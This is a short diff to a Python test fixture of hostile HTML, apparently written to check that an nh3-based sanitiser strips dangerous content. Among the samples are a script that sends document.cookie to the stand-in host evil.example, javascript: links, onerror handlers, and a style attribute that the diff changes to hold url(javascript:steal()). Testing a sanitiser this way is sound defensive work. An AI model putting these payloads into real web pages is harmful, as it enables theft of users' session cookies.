@@ -57,8 +57,9 @@ HOSTILE_HTML = (
     '<script>document.location="https://evil.example/steal?c="+document.cookie</script>\n'
     '<a href="javascript:alert(1)" onclick="steal()">click me</a>\n'
     '<img src="https://tracker.example/p.gif" onerror="steal()">\n'
-    # A style the attribute filter must cut: nh3 calls it back into Python.
-    '<p style="color: navy; background: url(https://tracker.example/bg.gif)">Regards, Alice</p>'
+    # A style the attribute filter must cut (a url() no image could have: a background
+    # image an <img src> could show stays, as that <img> does): nh3 calls it back into Python.
+    '<p style="color: navy; background: url(javascript:steal())">Regards, Alice</p>'
     "</body></html>\n"
 )
 
